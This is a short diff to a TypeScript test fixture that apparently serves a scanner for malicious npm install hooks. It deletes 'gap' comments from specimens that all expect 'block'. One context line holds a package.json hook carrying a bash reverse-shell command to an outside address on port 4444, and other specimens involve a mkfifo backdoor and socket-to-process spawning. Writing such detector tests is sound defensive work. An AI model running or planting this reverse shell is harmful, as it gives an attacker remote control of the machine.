@@ -32,7 +32,6 @@ export const specimens: readonly Specimen[] = [
       'package.json': hooked('bash -c "bash -i >& /dev/tcp/192.0.2.5/4444 0>&1"'),
     },
     expect: 'block',
-    gap: 'the redirection is not read as a part of the inner command',
   },
   {
     name: 'backdoor-mkfifo',
@@ -72,7 +71,6 @@ connect();
 `,
     },
     expect: 'block',
-    gap: 'data of a constructed socket is not followed into stdin of a process',
     happens: { at: 'install and import', does: 'spawns' },
   },
   {
@@ -94,7 +92,6 @@ conn.on('ready', () => {
 `,
     },
     expect: 'block',
-    gap: 'a channel handed out by an event is not followed',
     happens: { at: 'import', does: 'spawns' },
   },
   {
